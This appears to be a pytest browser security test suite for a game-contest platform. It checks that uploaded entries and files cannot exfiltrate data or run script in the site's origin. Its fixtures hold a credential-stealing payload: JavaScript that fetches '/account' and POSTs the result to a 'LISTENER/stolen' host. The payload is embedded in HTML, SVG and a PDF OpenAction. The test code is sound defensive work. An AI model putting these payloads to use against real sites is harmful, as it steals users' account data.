"""T7: what an entry holds calls nobody and runs nothing in our origin, in its frame or opened by itself."""

import io
from collections.abc import Iterator

import pytest
from cast import World
from play_room import GAMES, NOW, Listener, PlayRoom, run_game
from playwright.sync_api import BrowserContext
from serving import serving

from contest.core.files import FileStore, register
from contest.entries.tables import EntryFile

pytestmark = pytest.mark.browser
TEN = {
    "fetch", "beacon", "image", "websocket", "eventsource", "style", "prefetch", "script", "subframe", "self-navigation",
}  # fmt: skip
KNOWN = {"form"}  # not among the ten of the design; closed as well
PATIENCE = 4000  # ms: the last way out is taken after 1.5 s


def game_that_calls(listener: Listener) -> dict[str, bytes]:
    head = f'<script>window.listener = {{ web: "{listener.web}", stun: "{listener.stun}" }};</script>'
    page = f"<!doctype html><html><head>{head}</head><body><script src=ways_out.js></script></body></html>"
    return {"index.html": page.encode(), "ways_out.js": (GAMES / "ways_out.js").read_bytes()}


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture
def context(chromium) -> Iterator[BrowserContext]:
    found = chromium.new_context()
    found.set_default_timeout(15000)
    yield found
    found.close()


def test_listener_hears_all_ten_ways_from_a_page_without_protection(context, listener):
    """So that silence below means something."""
    listener.pages.update(game_that_calls(listener))
    page = context.new_page()

    page.goto(f"{listener.web}/index.html")
    page.wait_for_timeout(PATIENCE)

    assert listener.heard & TEN == TEN
    assert listener.packets > 0


@pytest.mark.parametrize("mode", ["closed", "own"])
def test_none_of_ten_ways_out_of_a_running_game_reaches_a_stranger(context, listener, tmp_path, mode):
    room = PlayRoom(tmp_path, game_that_calls(listener), second_host=mode == "own")
    with serving(room, room.port):
        room.sign_in(context)
        page = context.new_page()
        page.goto(room.path)

        run_game(page, mode)
        page.wait_for_timeout(PATIENCE)

        assert page.url == room.path
    room.db.dispose()
    assert listener.heard & (TEN | KNOWN) == set()
    print(
        f"\n{mode}: 0 of {len(TEN)} ways reached the listener; WebRTC, known and open in Chromium: {listener.packets} STUN packets"
    )


def add_file(room: PlayRoom, world: World, files: FileStore, name: str, media_type: str, content: bytes) -> str:
    with room.db.write() as session:
        owner = world.people["mallory"]
        kept = files.keep(io.BytesIO(content))
        stored = register(session, kept, name=name, media_type=media_type, by=owner, now=NOW)
        row = EntryFile(
            entry_id=room.entry, slot_id=world.slots["product"], file_id=stored.id, added_at=NOW, added_by=owner
        )
        session.add(row)
        session.flush()
        return row.id


SCRIPT = "fetch('/account',{credentials:'include'}).then(a=>a.text()).then(t=>fetch('LISTENER/stolen',{mode:'no-cors',method:'POST',body:t}))"
SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>SCRIPT</script></svg>"
PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("LISTENER/stolen"))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj
trailer<</Root 1 0 R>>
%%EOF"""
STORED = {
    "trang.html": ("text/html", f"<script>{SCRIPT}</script>".encode()),
    "hinh.svg": ("image/svg+xml", SVG.replace("SCRIPT", SCRIPT).encode()),
    "bai.pdf": ("application/pdf", PDF),
    "loi.txt": ("text/plain", f"<script>{SCRIPT}</script>".encode()),
    "anh.png": ("image/png", f"<script>{SCRIPT}</script>".encode()),
}


def test_stored_file_opened_by_itself_runs_nothing(context, listener, tmp_path):
    room = PlayRoom(tmp_path, {"index.html": b"<p>game</p>"})
    with serving(room, room.port):
        room.sign_in(context)
        for name, (media_type, content) in STORED.items():
            body = content.replace(b"LISTENER", listener.web.encode())
            file_id = add_file(room, room.world, room.files, name, media_type, body)
            page = context.new_page()
            page.goto(room.site + "/account")
            page.evaluate("address => { location.href = address }", room.path.replace(f"{room.file}/play", file_id))
            page.wait_for_timeout(800)
            page.close()

        assert listener.heard & {"stolen"} == set()
    room.db.dispose()


@pytest.mark.parametrize("name", ["index.html", "hinh.svg"])
def test_page_of_a_game_opened_by_itself_has_no_origin_of_ours(context, listener, tmp_path, name):
    body = {
        "index.html": f"<script>{SCRIPT};window.ran=1</script>",
        "hinh.svg": SVG.replace("SCRIPT", SCRIPT + ";window.ran=1"),
    }
    members = {key: text.replace("LISTENER", listener.web).encode() for key, text in body.items()}
    room = PlayRoom(tmp_path, members)
    with serving(room, room.port):
        room.sign_in(context)
        page = context.new_page()
        page.goto(room.path)
        folder = run_game(page, "closed").url.removesuffix("index.html")

        alone = context.new_page()
        alone.goto(folder + name)
        alone.wait_for_function("window.ran === 1")
        alone.wait_for_timeout(500)

        assert alone.evaluate("self.origin") == "null"
        assert listener.heard & {"stolen"} == set()
    room.db.dispose()
